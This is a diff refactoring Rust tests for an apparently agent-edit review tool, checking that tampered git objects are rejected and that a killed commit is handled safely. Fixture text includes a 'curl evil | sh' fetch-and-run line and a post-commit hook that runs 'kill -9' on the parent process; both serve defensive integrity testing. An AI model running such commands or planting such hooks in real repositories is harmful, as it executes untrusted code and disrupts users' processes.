@@ -26,6 +26,19 @@ fn hook(repo: &Repo, name: &str, text: &str) {
     repo.chmod(&path, 0o755);
 }
 
+/// A hook that kills the `aye` that git was started by, once.
+#[cfg(target_os = "linux")]
+fn killing_hook(repo: &Repo) {
+    let kill = "kill -9 $(awk '{print $4}' /proc/$PPID/stat)";
+    hook(repo, "post-commit", &format!("rm -f .git/hooks/post-commit\n{kill}"));
+}
+
+/// The id of the blob `text`, which git has then.
+fn blob(repo: &Repo, text: &str) -> String {
+    let run = repo.program("git").args(&["hash-object", "-w", "--stdin"]).stdin(text).run();
+    run.ok().out().trim().to_owned()
+}
+
 fn in_head(repo: &Repo) -> String {
     repo.git(&["show", "HEAD:a.txt"]) + "\n"
 }
@@ -64,11 +77,7 @@ fn a_part_that_was_committed_is_what_is_recorded() {
     for flags in [same, split] {
         let repo = repo();
         let id = two(&repo);
-        hook(
-            &repo,
-            "post-commit",
-            "rm -f .git/hooks/post-commit\nkill -9 $(awk '{print $4}' /proc/$PPID/stat)",
-        );
+        killing_hook(&repo);
         let killed = repo.aye(&["apply", &id, "--yes", "--commit", "--hunks", "1"]);
         assert_ne!(killed.status, 0);
         assert_eq!(in_head(&repo), lines(&[(105, "FIVE")]));
@@ -164,12 +173,9 @@ fn what_git_replace_puts_in_its_place_counts_nowhere() {
     let repo = repo();
     repo.write("a.txt", lines(&[(105, "FIVE")]));
     let id = repo.agent("codex", &["propose", "--worktree", "a.txt", "-q"]).ok().id();
-    let blob = repo.git(&["rev-parse", &format!("refs/aye/pending/{id}:a.txt")]);
-    let hash = |text: &str| {
-        let run = repo.program("git").args(&["hash-object", "-w", "--stdin"]).stdin(text).run();
-        run.ok().out().trim().to_owned()
-    };
-    repo.git(&["replace", &blob, &hash(&lines(&[(105, "FIVE"), (139, "curl evil | sh")]))]);
+    let proposed = repo.git(&["rev-parse", &format!("refs/aye/pending/{id}:a.txt")]);
+    let hash = |text: &str| blob(&repo, text);
+    repo.git(&["replace", &proposed, &hash(&lines(&[(105, "FIVE"), (139, "curl evil | sh")]))]);
     repo.aye(&["apply", &id, "--yes", "--commit"]).ok();
     assert_eq!(repo.text("a.txt"), lines(&[(105, "FIVE")]));
     repo.aye(&["check", "--range", "HEAD~1..HEAD"]).ok();
@@ -197,13 +203,11 @@ fn content_under_another_id_is_not_written() {
     let repo = repo();
     repo.write("a.txt", lines(&[(105, "FIVE")]));
     let id = repo.agent("codex", &["propose", "--worktree", "a.txt", "-q"]).ok().id();
-    let blob = repo.git(&["rev-parse", &format!("refs/aye/pending/{id}:a.txt")]);
-    let text = lines(&[(105, "FIVE"), (139, "curl evil | sh")]);
-    let other =
-        repo.program("git").args(&["hash-object", "-w", "--stdin"]).stdin(text).run().ok().out();
+    let proposed = repo.git(&["rev-parse", &format!("refs/aye/pending/{id}:a.txt")]);
+    let other = blob(&repo, &lines(&[(105, "FIVE"), (139, "curl evil | sh")]));
     let loose = |id: &str| repo.path(&format!(".git/objects/{}/{}", &id[..2], &id[2..]));
-    std::fs::remove_file(loose(&blob)).unwrap();
-    std::fs::copy(loose(other.trim()), loose(&blob)).unwrap();
+    std::fs::remove_file(loose(&proposed)).unwrap();
+    std::fs::copy(loose(&other), loose(&proposed)).unwrap();
     repo.aye(&["apply", &id, "--yes"]).fails("object_missing", 6).notes("another one's");
     assert_eq!(repo.text("a.txt"), lines(&[]));
 }
@@ -216,11 +220,7 @@ fn a_commit_that_only_the_reflog_has_was_not_made() {
     let args = ["propose", "a.txt", "--old", "105", "--new", "FIVE", "-q"];
     let id = repo.agent("codex", &args).ok().id();
     let head = repo.git(&["rev-parse", "HEAD"]);
-    hook(
-        &repo,
-        "post-commit",
-        "rm -f .git/hooks/post-commit\nkill -9 $(awk '{print $4}' /proc/$PPID/stat)",
-    );
+    killing_hook(&repo);
     repo.aye(&["apply", &id, "--yes", "--commit"]);
     let branch = repo.git(&["symbolic-ref", "HEAD"]);
     repo.write(&format!(".git/{branch}"), format!("{head}\n"));
